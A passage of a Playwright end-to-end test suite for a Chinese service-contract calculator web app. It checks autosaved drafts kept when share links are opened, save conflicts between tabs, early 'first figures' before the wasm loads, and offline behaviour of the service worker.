      (key) => JSON.parse(localStorage.getItem(key) ?? '{}').fees?.components?.[0]?.amount === '47000.00',
      WORKING_KEY,
    );
    const other = await secondTab(context, errors);
    await openApp(other, url);
    await other.getByTestId('toggle-list').click();
    await savedRow(other, '甲方合同').getByTestId('open-saved').click();
    await field(page, FEE0).fill('49000');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
    await field(other, FEE0).fill('30000');
    await other.getByTestId('save-current').click();
    await expectText(other, '[data-testid=save-state]', '已保存');
    await expectBanner(page, '另一窗口保存了“甲方合同”的新版本');
    await page.getByTestId('save-current').click();
    await expectBanner(page, '本窗口的版本已另存为“甲方合同（冲突副本）”');
    assertEq(await storedNames(page), JSON.stringify(['甲方合同', '甲方合同（冲突副本）']), 'saved scenarios after a real conflict');
  },
});

// ---------------------------------------------------------------------------------------------
// A share link opened over the user's own work. The tab showing the link has read the autosaved
// working draft but shows the link instead; whatever it goes on to (New, Open, Import, saving the
// link) is then autosaved into that same draft. The work the draft held — typed in another tab or
// on an earlier visit — must still be on this device afterwards, kept once.

const COURT_NAME = '货款320000 · 按同期一年期LPR（360天）';

/** The court's floating-LPR example as a share link's fragment. */
function courtLink() {
  return fragmentOf(fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8'));
}

/** The user's own work in `page`: the starter renamed `name` at ¥40,000 a month, autosaved. */
async function autosavedWork(page, url, name) {
  await openApp(page, url);
  await field(page, 'name').fill(name);
  await field(page, FEE0).fill('40000');
  await expectText(page, TOTAL, '¥540,000.00');
  await waitForStorage(page, (s) => s[WORKING_KEY]?.includes(name) && s[WORKING_KEY].includes('40000.00'), `${name}, autosaved`);
}

/** Opens the share link `fragment` in `page` as a click in a chat app does (a page load). */
async function openLink(page, url, fragment) {
  await page.goto(`${url}#${fragment}`);
  await page.locator('#shell').waitFor({ state: 'detached' });
  await expectBanner(page, '分享链接打开的方案');
}

/**
 * Fails unless the work `name` at ¥40,000 a month is in My scenarios as “name（草稿）”, saying
 * where it went otherwise; then opens it from there and sees its figures.
 */
async function expectWorkKept(page, name) {
  const store = await storage(page);
  const kept = savedEntries(store).some((e) => e.name === `${name}（草稿）` && e.scenario.fees.components[0].amount === '40000.00');
  if (!kept) {
    const working = store[WORKING_KEY] ? JSON.parse(store[WORKING_KEY]) : null;
    fail(`the work “${name}” (¥40,000 a month) is lost: the working draft is now ${JSON.stringify(working?.name)}`
      + ` at ${JSON.stringify(working?.fees.components[0].amount)}, and My scenarios hold ${await storedNames(page)}`);
  }
  if (!(await page.getByTestId('saved-panel').isVisible())) await page.getByTestId('toggle-list').click();
  await savedRow(page, `${name}（草稿）`).getByTestId('open-saved').click();
  await expectText(page, NAME, `${name}（草稿）`);
  await expectText(page, TOTAL, '¥540,000.00');
}

tests.push({
  name: 'work autosaved on an earlier visit is kept when a share link opened later is left with New',
  async run({ page, context, url, errors }) {
    await autosavedWork(page, url, '我的报价');
    await page.goto('about:blank');
    // Later a colleague's link is opened, looked at, and left with 新建; the tab is closed.
    const tab = await secondTab(context, errors);
    await openLink(tab, url, courtLink());
    await expectText(tab, TOTAL, '¥320,000.00');
    await tab.getByTestId('new-scenario').click();
    await expectText(tab, NAME, STARTER_NAME);
    await expectBanner(tab, '本机自动保存的草稿已另存为“我的报价（草稿）”');
    await tab.waitForTimeout(400);
    await tab.goto('about:blank');
    // The next visit finds the earlier work in My scenarios, beside the link New kept.
    const again = await secondTab(context, errors);
    await openApp(again, url);
    await expectWorkKept(again, '我的报价');
    assertEq(await storedNames(again), JSON.stringify([`${COURT_NAME}（草稿）`, '我的报价（草稿）'].sort()), 'saved scenarios');
  },
});

tests.push({
  name: 'two imports in a share link\'s tab leave one import note, and the note of where the earlier work was kept stays',
  async run({ page, context, url, errors }) {
    await autosavedWork(page, url, '我的报价');
    await page.goto('about:blank');
    const tab = await secondTab(context, errors);
    await openLink(tab, url, courtLink());
    await expectText(tab, TOTAL, '¥320,000.00');
    const fixture = JSON.parse(fs.readFileSync(new URL('../fixtures/monthly-operation-2025.json', import.meta.url), 'utf8'));
    const file = (name) => ({ name: `${name}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({ ...fixture, name })) });
    await tab.locator('#f-import').setInputFiles(file('第一份'));
    await expectText(tab, NAME, '第一份');
    const kept = '本机自动保存的草稿已另存为“我的报价（草稿）”';
    await expectBanner(tab, kept);
    await expectBanner(tab, '已导入并保存“第一份”');
    await tab.locator('#f-import').setInputFiles(file('第二份'));
    await expectText(tab, NAME, '第二份');
    await expectBanner(tab, '已导入并保存“第二份”');
    assertEq(await bannerWith(tab, '已导入').count(), 1, 'import notes');
    assertEq(await bannerWith(tab, kept).count(), 1, 'the note of where the earlier work was kept');
    await expectWorkKept(tab, '我的报价');
  },
});

tests.push({
  name: 'work autosaved on an earlier visit is kept when an edited share link is left by opening a saved scenario',
  async run({ page, context, url, errors }) {
    await openApp(page, url);
    await saveAs(page, '已存方案');
    await page.getByTestId('new-scenario').click();
    await autosavedWork(page, url, '我的报价');
    await page.goto('about:blank');
    // A link is opened, edited, and left by opening a saved scenario.
    const tab = await secondTab(context, errors);
    await openLink(tab, url, courtLink());
    await field(tab, 'name').fill('改过的法院案例');
    await tab.getByTestId('toggle-list').click();
    await savedRow(tab, '已存方案').getByTestId('open-saved').click();
    await expectText(tab, NAME, '已存方案');
    await tab.waitForTimeout(400);
    await tab.goto('about:blank');
    const again = await secondTab(context, errors);
    await openApp(again, url);
    await expectText(again, NAME, '已存方案');
    await expectWorkKept(again, '我的报价');
    assertEq(await storedNames(again), JSON.stringify(['已存方案', '我的报价（草稿）', '改过的法院案例（草稿）'].sort()), 'saved scenarios');
  },
});

tests.push({
  name: 'work on screen is kept when a share link pasted into the same tab is left with New',
  async run({ page, url }) {
    await autosavedWork(page, url, '我的报价');
    await pasteLink(page, courtLink(), '货款320000');
    await expectBanner(page, '分享链接打开的方案');
    await page.getByTestId('new-scenario').click();
    await expectText(page, NAME, STARTER_NAME);
    await page.waitForTimeout(400);
    await reloadApp(page);
    await expectWorkKept(page, '我的报价');
    assertEq(await storedNames(page), JSON.stringify([`${COURT_NAME}（草稿）`, '我的报价（草稿）'].sort()), 'saved scenarios');
  },
});

tests.push({
  name: 'work autosaved on an earlier visit is kept when a share link is saved to My scenarios',
  async run({ page, context, url, errors }) {
    await autosavedWork(page, url, '我的报价');
    await page.goto('about:blank');
    const tab = await secondTab(context, errors);
    await openLink(tab, url, courtLink());
    await bannerWith(tab, '分享链接打开的方案').getByTestId('save-link').click();
    await expectText(tab, '[data-testid=save-state]', '已保存');
    await tab.waitForTimeout(400);
    await reloadApp(tab);
    await expectText(tab, NAME, COURT_NAME);
    await expectWorkKept(tab, '我的报价');
    assertEq(await storedNames(tab), JSON.stringify([COURT_NAME, '我的报价（草稿）'].sort()), 'saved scenarios');
  },
});

tests.push({
  name: 'a link left with New while another tab still shows the work keeps that work once; discarding the link, or an untouched starter, copies nothing',
  async run({ page, context, url, errors, newPage }) {
    await autosavedWork(page, url, '我的报价');
    // "Discard, back to mine" shows the work again: nothing to copy.
    const tab = await secondTab(context, errors);
    await openLink(tab, url, courtLink());
    await bannerWith(tab, '分享链接打开的方案').getByRole('button', { name: '放弃，回到我的方案' }).click();
    await expectText(tab, NAME, '我的报价');
    await tab.waitForTimeout(400);
    assertEq(await storedNames(tab), '[]', 'saved scenarios after discarding the link');
    // The link again, left with New: the work is kept; the first tab, left afterwards, finds it
    // kept and makes no second copy.
    await openLink(tab, url, courtLink());
    await tab.getByTestId('new-scenario').click();
    await expectText(tab, NAME, STARTER_NAME);
    await tab.waitForTimeout(400);
    await page.goto('about:blank');
    await tab.waitForTimeout(400);
    assertEq(await storedNames(tab), JSON.stringify([`${COURT_NAME}（草稿）`, '我的报价（草稿）'].sort()), 'saved scenarios after both tabs');
    // A device whose draft is the untouched starter has no work to keep.
    const other = await newPage();
    await openApp(other, url);
    await waitForStorage(other, (s) => s[WORKING_KEY]?.includes(STARTER_NAME), 'the starter, autosaved');
    await openLink(other, url, courtLink());
    await other.getByTestId('new-scenario').click();
    await expectText(other, NAME, STARTER_NAME);
    await other.waitForTimeout(400);
    assertEq(await storedNames(other), JSON.stringify([`${COURT_NAME}（草稿）`]), 'saved scenarios with the starter as the draft');
  },
});

tests.push({
  name: 'storage full: a link left with New stays on screen, and the autosaved work under it stays too, when that work cannot be kept',
  async run({ page, url }) {
    // The linked scenario is already in My scenarios; the user's work is the autosaved draft.
    await openLink(page, url, courtLink());
    await bannerWith(page, '分享链接打开的方案').getByTestId('save-link').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    await page.getByTestId('new-scenario').click();
    await autosavedWork(page, url, '我的报价');
    await openLink(page, url, courtLink());
    const before = await storage(page);
    await setStorageFull(page, true);
    await page.getByTestId('new-scenario').click();
    await expectBanner(page, '未能把本机自动保存的草稿“我的报价”另存为草稿');
    await expectText(page, NAME, COURT_NAME);
    await expectText(page, '[data-testid=save-state]', '来自链接，未保存');
    await page.waitForTimeout(400);
    assertEq(JSON.stringify(await storage(page)), JSON.stringify(before), 'storage while full');
    // Room again: New keeps the work and moves on.
    await setStorageFull(page, false);
    await page.getByTestId('new-scenario').click();
    await expectText(page, NAME, STARTER_NAME);
    await page.waitForTimeout(400);
    await expectWorkKept(page, '我的报价');
    assertEq(await storedNames(page), JSON.stringify([COURT_NAME, '我的报价（草稿）'].sort()), 'saved scenarios');
  },
});

// ---------------------------------------------------------------------------------------------
// First figures (src/first_figures.rs, issue 9): the static shell shows the opening scenario's
// figures before the app's wasm has arrived — the same figures the app then shows, or none.

const APP_WASM = /contract-calc-web-[0-9a-f]+_bg\.wasm$/;
const FIGURES_WASM = /contract-calc-figures-[0-9a-f]+_bg\.wasm$/;
const QR_WASM = /contract-calc-qr-[0-9a-f]+_bg\.wasm$/;

/**
 * Holds back the page's requests for files `pattern` matches until the returned function is
 * called (never, if it is not); its `asked` promise settles once the page has asked for one.
 */
async function holdFile(page, pattern) {
  let release;
  let asked;
  const held = new Promise((resolve) => { release = resolve; });
  release.asked = new Promise((resolve) => { asked = resolve; });
  await page.route(pattern, async (route) => {
    asked();
    await held;
    await route.continue();
  });
  return release;
}

/** Holds back the app's wasm (see `holdFile`): boot.js asks for it once the first figures are
 * painted or given up. */
const holdApp = (page) => holdFile(page, APP_WASM);

/** `page` as in a browser without CompressionStream and DecompressionStream (Safari before 16.4). */
function withoutDeflateStreams(page) {
  return page.addInitScript(() => {
    delete window.CompressionStream;
    delete window.DecompressionStream;
  });
}

/** The `contract-calc` CLI (the release build, made when missing) run with `args` on `input`. */
function cli(args, input) {
  const bin = path.join(ROOT, 'target', 'release', 'contract-calc');
  if (!fs.existsSync(bin)) execFileSync('cargo', ['build', '--release', '--bin', 'contract-calc'], { cwd: ROOT, stdio: 'inherit' });
  return execFileSync(bin, args, { input, encoding: 'utf8' }).trim();
}

/** The court's floating-LPR example and the monthly-operation fixture, as links the CLI makes. */
function courtAndMonthlyLinks() {
  return ['floating-lpr-court.json', 'monthly-operation-2025.json']
    .map((name) => cli(['link', '-'], fs.readFileSync(new URL(`../fixtures/${name}`, import.meta.url), 'utf8')));
}

const SHELL_LOG = 'test/shell-figures';

/**
 * Records, in the tab's session storage and so across its page loads, the figures computed into
 * the static shell as they appear (not the starter's build-time figures, which the page carries
 * from the start): each contract total, the panel's title, and how many form fields the page had
 * then (0: before the app built its form). `shellFigures(page)` lists them.
 */
function recordShellFigures(page) {
  return page.addInitScript(([total, key]) => {
    const logged = new WeakSet();
    new MutationObserver(() => {
      const figure = [...document.querySelectorAll(`#shell-results ${total}`)].find((e) => !e.closest('#shell-static'));
      if (!figure || logged.has(figure)) return;
      logged.add(figure);
      const entry = {
        total: figure.textContent.trim(),
        title: document.querySelector('#shell-results .results-title')?.textContent ?? '',
        fields: document.querySelectorAll('[data-path]').length,
      };
      sessionStorage.setItem(key, JSON.stringify([...JSON.parse(sessionStorage.getItem(key) ?? '[]'), entry]));
    }).observe(document, { childList: true, subtree: true });
  }, [TOTAL, SHELL_LOG]);
}

/** The figures `recordShellFigures` saw in the shell, oldest first. */
function shellFigures(page) {
  return page.evaluate((key) => JSON.parse(sessionStorage.getItem(key) ?? '[]'), SHELL_LOG);
}

const SHELL_TOTAL = `#shell-results ${TOTAL}`;
const SHELL_PENALTY = `#shell-results ${PENALTY}`;

tests.push(
  {
    name: 'first figures: a share link shows its figures before the app arrives, the same the app then shows',
    async run({ page, url }) {
      // The court's floating-LPR example (tests/fixtures): 320,000 paid late → 18,475.56.
      const doc = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
      const release = await holdApp(page);
      await page.goto(`${url}#${fragmentOf(doc)}`);
      await expectText(page, SHELL_TOTAL, '¥320,000.00');
      await expectText(page, SHELL_PENALTY, '¥18,475.56');
      assertEq(await page.locator('[data-path]').count(), 0, 'form fields before the app');
      release();
      await page.locator('#shell').waitFor({ state: 'detached' });
      await expectText(page, TOTAL, '¥320,000.00');
      await expectText(page, PENALTY, '¥18,475.56');
    },
  },
  {
    name: 'share links in a browser that cannot deflate (Safari before 16.4): the links module reads them (first figures, then the app) and makes them byte for byte as the CLI',
    async run({ url, newPage }) {
      // The court's floating-LPR example, linked by the CLI, opened in a browser without
      // CompressionStream and DecompressionStream.
      const doc = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
      const cliFragment = cli(['link', '-'], doc);
      const old = await newPage({ serviceWorkers: 'block' });
      await withoutDeflateStreams(old);
      const fetched = [];
      old.on('request', (r) => fetched.push(new URL(r.url()).pathname));
      let release = await holdApp(old);
      await old.goto(`${url}#${cliFragment}`);
      await release.asked;
      await expectText(old, SHELL_PENALTY, '¥18,475.56');
      release();
      await expectText(old, PENALTY, '¥18,475.56');
      assert(fetched.some((p) => p.includes('contract-calc-links-')), 'the links module was not fetched');
      await old.getByTestId('copy-link').click();
      await old.getByTestId('link-text').waitFor({ state: 'visible' });
      assertEq(await old.getByTestId('link-text').inputValue(), `${url}#${cliFragment}`, 'the link made by the links module');

      // A browser that deflates: the link it makes has other bytes but the same document, and
      // it never fetches the links module.
      const modern = await newPage({ serviceWorkers: 'block' });
      const modernFetched = [];
      modern.on('request', (r) => modernFetched.push(new URL(r.url()).pathname));
      await modern.goto(`${url}#${cliFragment}`);
      await expectText(modern, PENALTY, '¥18,475.56');
      await modern.getByTestId('copy-link').click();
      await modern.getByTestId('link-text').waitFor({ state: 'visible' });
      const made = (await modern.getByTestId('link-text').inputValue()).split('#')[1];
      const inflate = (f) => zlib.inflateRawSync(Buffer.from(f.slice(3), 'base64url')).toString('utf8');
      assertEq(inflate(made), inflate(cliFragment), 'the document of the link CompressionStream made');
      assertEq(modernFetched.filter((p) => p.includes('contract-calc-links-')).length, 0, 'links-module requests in a browser that deflates');

      // A byte after the deflate stream: the app calls the link damaged (share_link::decode), so
      // the page must not show its figures first, although the document inflates.
      const junk = 's1.' + Buffer.concat([zlib.deflateRawSync(Buffer.from(doc, 'utf8'), { level: 9 }), Buffer.from([0])]).toString('base64url');
      for (const page of [modern, old]) {
        release = await holdApp(page);
        await page.goto('about:blank');
        await page.goto(`${url}#${junk}`);
        await release.asked;
        assertEq(await page.locator(SHELL_TOTAL).count(), 0, 'early figures for a link with bytes after its stream');
        release();
        await expectBanner(page, '分享链接已损坏');
      }
    },
  },
  {
    name: 'share links as boot.js reads them: "##s1.…" opens; a link pasted while the app loads opens that link, not the first; the links module offline or stalled keeps the link for a reload',
    async run({ url, newPage, errors }) {
      const [courtLink, monthlyLink] = courtAndMonthlyLinks();

      // Two '#' (a chat app's doubled anchor): the app reads the link as the CLI does.
      const doubled = await newPage({ serviceWorkers: 'block' });
      await doubled.goto(`${url}##${courtLink}`);
      await expectText(doubled, PENALTY, '¥18,475.56');
      await expectBanner(doubled, '分享链接打开的方案');

      // The court's link, then, before the app has started, another link pasted: the app opens
      // the pasted one (the page loads again), never the court's document under its address.
      const pasted = await newPage({ serviceWorkers: 'block' });
      const release = await holdApp(pasted);
      await pasted.goto(`${url}#${courtLink}`);
      await release.asked;
      await pasted.evaluate((f) => { location.hash = f; }, monthlyLink);
      release();
      await expectText(pasted, NAME, '外包售后运营 2025 · monthly fixed fee, late payments');
      assertEq(await pasted.evaluate(() => location.hash.slice(1)), monthlyLink, 'the address');

      // A browser without the deflate streams whose links module cannot be fetched (offline):
      // the app says so and keeps the link, and a reload online opens it.
      const old = await newPage({ serviceWorkers: 'block' });
      await withoutDeflateStreams(old);
      await old.route(/contract-calc-links-/, (route) => route.abort());
      await old.goto(`${url}#${courtLink}`);
      await expectBanner(old, '暂时无法读取分享链接');
      assertEq(await old.evaluate(() => location.hash.slice(1)), courtLink, 'the address after the module failed');
      await old.unroute(/contract-calc-links-/);
      await old.reload();
      await expectText(old, PENALTY, '¥18,475.56');
      // A fetch of the module that stalls instead: boot.js gives up after 20 s (the page's clock
      // moved on here), and the app starts and says so.
      const stalled = await newPage({ serviceWorkers: 'block' });
      await stalled.clock.install();
      await withoutDeflateStreams(stalled);
      let asked;
      const requested = new Promise((resolve) => { asked = resolve; });
      await stalled.route(/contract-calc-links-/, () => { asked(); });
      await stalled.goto(`${url}#${courtLink}`, { waitUntil: 'commit' });
      await requested;
      await stalled.clock.runFor(20_001);
      await expectBanner(stalled, '暂时无法读取分享链接');
      assertEq(await stalled.evaluate(() => location.hash.slice(1)), courtLink, 'the address after the module stalled');
      // The module's fetch was cut on purpose: those failures are no fault.
      const cut = errors.filter((e) => e.includes('contract-calc-links-'));
      assert(cut.length > 0, 'the cut fetch of the links module was not seen');
      errors.splice(0, errors.length, ...errors.filter((e) => !cut.includes(e)));
    },
  },
  {
    name: 'first figures never hold the app up or show another link: a stalled figures module gives way after 6 s; a link pasted while it loads gets no figures of the first; a QR code arriving after its panel is gone is dropped',
    async run({ url, newPage, errors }) {
      const [courtLink, monthlyLink] = courtAndMonthlyLinks();

      // The module's wasm never answers (a phone's network that stalls): after 6 s the app
      // starts, and its own wasm paints the link's figures.
      const stalled = await newPage({ serviceWorkers: 'block' });
      await stalled.clock.install();
      const never = await holdFile(stalled, FIGURES_WASM);
      await stalled.goto(`${url}#${courtLink}`, { waitUntil: 'commit' });
      await never.asked;
      await stalled.clock.runFor(6_001);
      await expectText(stalled, PENALTY, '¥18,475.56');

      // The court's link loading, the monthly one pasted before the module has painted: never
      // the court's figures under the monthly link; the app opens the monthly one.
      const pasted = await newPage({ serviceWorkers: 'block' });
      await recordShellFigures(pasted);
      const release = await holdFile(pasted, FIGURES_WASM);
      await pasted.goto(`${url}#${courtLink}`);
      await release.asked;
      await pasted.evaluate((f) => { location.hash = f; }, monthlyLink);
      release();
      await expectText(pasted, NAME, '外包售后运营 2025 · monthly fixed fee, late payments');
      await expectText(pasted, TOTAL, '¥600,000.00');
      const seen = (await shellFigures(pasted)).map((f) => f.total);
      assert(!seen.includes('¥320,000.00'), `the court's figures were shown under the pasted link: ${seen}`);

      // The QR code's module arriving after its panel is gone (another page shown): dropped,
      // nothing fails (the harness fails the test on any page error).
      const sharing = await newPage({ serviceWorkers: 'block' });
      await openApp(sharing, url);
      const qrRelease = await holdFile(sharing, QR_WASM);
      await sharing.getByTestId('copy-link').click();
      await sharing.getByTestId('share-panel').waitFor();
      // Its place is kept while it loads, so the panel does not grow under the pointer.
      assertEq(await sharing.getByTestId('qr').getAttribute('data-loading'), '', 'the QR code\'s place while it loads');
      await sharing.getByTestId('open-compare').click();
      await sharing.getByTestId('compare-hint').waitFor();
      const answered = sharing.waitForResponse((r) => QR_WASM.test(r.url()));
      qrRelease();
      await answered;
      await sharing.waitForTimeout(300);
      await sharing.getByRole('button', { name: '计算', exact: true }).click();
      await expectText(sharing, TOTAL, STARTER_TOTAL);

      // The stalled fetch was cut on purpose: no fault.
      const cut = errors.filter((e) => e.includes('contract-calc-figures-'));
      errors.splice(0, errors.length, ...errors.filter((e) => !cut.includes(e)));
    },
  },
  {
    name: 'first figures: the starter in the stored language; a draft\'s from the app\'s own wasm before its form; none for a draft the app will set aside',
    async run({ url, newPage }) {
      // No service worker here: its copy would hand over the app's wasm past the hold.
      const page = await newPage({ serviceWorkers: 'block' });
      // A first visit: the starter's figures that hold on any day are in the page itself, and
      // the figures module is not even fetched.
      const fetched = [];
      page.on('request', (r) => fetched.push(new URL(r.url()).pathname));
      let release = await holdApp(page);
      await page.goto(url);
      await expectText(page, `#shell-static [data-lang=zh] ${TOTAL}`, STARTER_TOTAL);
      assertEq(await page.locator(`#shell-static [data-lang=en] ${TOTAL}`).isVisible(), false, 'the English figures on a Chinese page');
      release();
      await page.locator('#shell').waitFor({ state: 'detached' });
      assertEq(fetched.filter((p) => p.includes('contract-calc-figures')).length, 0, 'figures-module requests on a first visit');
      // English chosen earlier, and a draft kept: the shell is in English, and the draft's
      // figures, in English, are painted by the app's own wasm before it builds its form; the
      // figures module is not fetched.
      await page.getByTestId('lang-toggle').click();
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      await field(page, FEE0).fill('46000');
      await expectText(page, TOTAL, '¥612,000.00');
      await page.waitForFunction((key) => localStorage.getItem(key)?.includes('"46000.00"'), WORKING_KEY);
      await recordShellFigures(page);
      release = await holdApp(page);
      await page.reload();
      await expectText(page, '#shell h1', 'Service Outsourcing Contract Calculator');
      assertEq(await page.evaluate(() => document.documentElement.dataset.figures), 'app', 'who paints a draft');
      release();
      await page.locator('#shell').waitFor({ state: 'detached' });
      const [early] = await shellFigures(page);
      assertEq(early?.total, '¥612,000.00', 'the draft\'s figures in the shell');
      assert(early.title.startsWith('Figures'), `English figures in the shell: ${early.title}`);
      assertEq(early.fields, 0, 'form fields when the figures were painted');
      assertEq(fetched.filter((p) => p.includes('contract-calc-figures')).length, 0, 'figures-module requests for a draft');
      // A draft that does not read: no early figures (the app sets it aside and says so).
      await page.evaluate((key) => localStorage.setItem(key, '{"format":"contract-calc/scenario",'), WORKING_KEY);
      await page.reload();
      await page.locator('#shell').waitFor({ state: 'detached' });
      assertEq((await shellFigures(page)).length, 1, 'early figures for an unreadable draft (the draft\'s before it)');
      await expectBanner(page, 'could not be read');
    },
  },
);

// ---------------------------------------------------------------------------------------------
// Offline (sw.js, issue 9)

/** The release an offline copy's name ends with. */
const releaseOf = (name) => name.split(' ').pop();

/**
 * Publishes release `v` (dist/sw.js under another VERSION, served in its place until
 * `server.override('/sw.js', null)`) and waits for its copy to take over; the copies' names then.
 * `ours` picks this deployment's copies from all.
 */
async function publishRelease(page, server, url, v, ours = (keys) => keys) {
  const released = await (await fetch(new URL('sw.js', url))).text();
  const line = /^const VERSION = .*;$/m;
  assert(line.test(released), `dist/sw.js names no release: ${released.slice(0, 200)}`);
  server.override('/sw.js', released.replace(line, () => `const VERSION = ${JSON.stringify(v)};`));
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update());
  const deadline = Date.now() + 15_000;
  let keys = [];
  while (Date.now() < deadline) {
    const state = await page.evaluate(async () => {
      const reg = await navigator.serviceWorker.getRegistration();
      return { keys: await caches.keys(), settled: !reg.installing && !reg.waiting && reg.active?.state === 'activated' };
    });
    keys = state.keys;
    if (state.settled && ours(keys).at(-1)?.endsWith(v) && ours(keys).length <= 2) break;
    await page.waitForTimeout(100);
  }
  return keys;
}

tests.push(
  {
    name: 'offline: the QR code\'s module is loaded the first time a link is shared and kept; before that, offline, the panel says so and the link is still made',
    async run({ page, context, server, url, errors }) {
      await openApp(page, url);
      await offlineCopyReady(page);
      server.offline();
      await context.setOffline(true);
      try {
        await reloadApp(page);
        await page.getByTestId('copy-link').click();
        await page.getByTestId('qr-unavailable').waitFor();
        assertEq(await page.getByTestId('qr').getAttribute('data-loading'), null, 'a placeholder for a QR code that will not come');
        assert((await page.getByTestId('link-text').inputValue()).startsWith(`${url}#s1.`), 'the link made offline');
        assertEq(await page.getByTestId('qr').locator('svg').count(), 0, 'QR codes offline before the module was loaded');
        await page.keyboard.press('Escape');
      } finally {
        await context.setOffline(false);
        server.online();
      }
      // Online: the module is loaded, the QR code drawn, and the copy keeps the module.
      await page.getByTestId('copy-link').click();
      await page.getByTestId('qr').locator('svg').waitFor();
      assertEq(await page.getByTestId('qr-unavailable').count(), 0, 'the note once the QR code is drawn');
      await page.keyboard.press('Escape');
      /** Offline, with only the service worker's copy to answer (not the browser's HTTP cache),
       * a reloaded page draws the QR code. */
      const drawnFromTheCopy = async () => {
        await (await context.newCDPSession(page)).send('Network.clearBrowserCache');
        server.offline();
        await context.setOffline(true);
        try {
          await reloadApp(page);
          await page.getByTestId('copy-link').click();
          await page.getByTestId('qr').locator('svg').waitFor();
          await page.keyboard.press('Escape');
        } finally {
          await context.setOffline(false);
          server.online();
        }
      };
      await drawnFromTheCopy();
      // Two releases later (the first one's copy deleted), without sharing in between, the
      // module is still kept: each release keeps it once an earlier one did.
      try {
        for (const v of ['contract-calc-000000000000qr-2', 'contract-calc-000000000000qr-3']) {
          const keys = await publishRelease(page, server, url, v);
          assert(keys.at(-1)?.endsWith(v), `release ${v} did not take over: ${JSON.stringify(keys)}`);
        }
      } finally {
        server.override('/sw.js', null);
      }
      await drawnFromTheCopy();
      // The module's fetch failed offline on purpose: no fault.
      const cut = errors.filter((e) => e.includes('contract-calc-qr-'));
      errors.splice(0, errors.length, ...errors.filter((e) => !cut.includes(e)));
    },
  },
  {
    name: 'offline: a second visit opens with the network off, from the copy the service worker kept, with the draft',
    async run({ page, context, server, url }) {
      await openApp(page, url);
      const versions = await offlineCopyReady(page);
      assertEq(versions.length, 1, 'offline copies after the first visit');
      assertEq(versions[0], `contract-calc ${url} ${versions[0].split(' ').pop()}`, 'the copy is named for its scope');
      assert(/^contract-calc-[0-9a-f]{16}$/.test(versions[0].split(' ').pop()), `the copy is named for its release: ${versions[0]}`);
      // The copy holds the app's wasm, which paints a later visit's first figures, and neither
      // the first-figures module (a link's first visit only) nor the links module this browser
      // never needs.
      const kept = await page.evaluate(async (name) => (await (await caches.open(name)).keys()).map((r) => new URL(r.url).pathname), versions[0]);
      assert(kept.some((p) => APP_WASM.test(p)), `the app's wasm is not in the copy: ${kept}`);
      assert(!kept.some((p) => p.includes('contract-calc-figures-')), `the figures module is in the copy: ${kept}`);
      assert(!kept.some((p) => p.includes('contract-calc-links-')), `the links module is in the copy: ${kept}`);
      await field(page, FEE0).fill('46000');
      await expectText(page, TOTAL, '¥612,000.00');
      server.offline();
      await context.setOffline(true);
      try {
        await reloadApp(page);
        await expectText(page, TOTAL, '¥612,000.00');
        assertEq(await field(page, FEE0).inputValue(), '46000.00', 'the fee typed before going offline');
        // Still a working calculator offline.
        await field(page, FEE1).fill('4000');
        await expectText(page, TOTAL, '¥600,000.00');
        // And a share link opens offline (the court's floating-LPR example).
        const doc = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
        // Only the fragment changes: the app reloads the page itself (a pasted link).
        await page.goto(`${url}#${fragmentOf(doc)}`);
        await page.waitForFunction(() => !document.getElementById('shell')
          && document.querySelector('[data-testid=contract-total]')?.textContent === '¥320,000.00', null, { timeout: 10_000 });
        await expectText(page, PENALTY, '¥18,475.56');
        // Chat apps add a query to the links they pass on: the page still opens offline.
        await page.goto(`${url}?from=singlemessage#${fragmentOf(doc)}`);
        await page.locator('#shell').waitFor({ state: 'detached' });
        await expectText(page, TOTAL, '¥320,000.00');
      } finally {
        await context.setOffline(false);
        server.online();
      }
    },
  },
  {
    name: 'offline: a host\'s fallback page sent for the QR code\'s module is not kept; the module itself is',
    async run({ page, server, url }) {
      await openApp(page, url);
      await offlineCopyReady(page);
      const wasm = fs.readdirSync(DIST).find((n) => /^contract-calc-qr-[0-9a-f]+_bg\.wasm$/.test(n));
      const keptQr = () => page.evaluate(async () => {
        const names = [];
        for (const key of await caches.keys()) {
          for (const r of await (await caches.open(key)).keys()) names.push(new URL(r.url).pathname);
        }
        return names.filter((p) => /contract-calc-qr-/.test(p));
      });
      server.override(`/${wasm}`, '<!doctype html><title>Not found</title>');
      try {
        await page.getByTestId('copy-link').click();
        await page.getByTestId('qr-unavailable').waitFor();
        await page.waitForTimeout(500);
        assertEq((await keptQr()).filter((p) => p.endsWith(wasm)).length, 0, 'the page the host sent kept as the QR wasm');
        await page.keyboard.press('Escape');
      } finally {
        server.override(`/${wasm}`, null);
      }
      await reloadApp(page);
      await page.getByTestId('copy-link').click();
      await page.getByTestId('qr').locator('svg').waitFor();
      const deadline = Date.now() + 5_000;
      while (!(await keptQr()).some((p) => p.endsWith(wasm)) && Date.now() < deadline) await page.waitForTimeout(100);
      assert((await keptQr()).some((p) => p.endsWith(wasm)), 'the QR wasm kept once the host sent it');
    },
  },
  {
    name: 'offline: a release the host does not serve as built is not kept, and the copy before stays in charge',
    async run({ page, server, url }) {
      await openApp(page, url);
      const [first] = await offlineCopyReady(page);
      // A new sw.js, but the host still sends the release before's page (a CDN's stale copy):
      // the same page but for the app it loads (a release that changed only the wasm), so the
      // new copy is refused.
      const released = await (await fetch(new URL('sw.js', url))).text();
      server.override('/sw.js', released.replace(/^const VERSION = .*;$/m, () => 'const VERSION = "contract-calc-000000000000stale";'));
      const current = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
      const before = current.replace(/contract-calc-web-[0-9a-f]+/g, 'contract-calc-web-0000000000000000');
      assert(before !== current, 'the page names the app');
      server.override('/', before);
      try {
        await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update().catch(() => {}));
        await page.waitForFunction(async () => {
          const reg = await navigator.serviceWorker.getRegistration();
          return !reg.installing && !reg.waiting;
        }, null, { timeout: 15_000 });
        const keys = await page.evaluate(() => caches.keys());
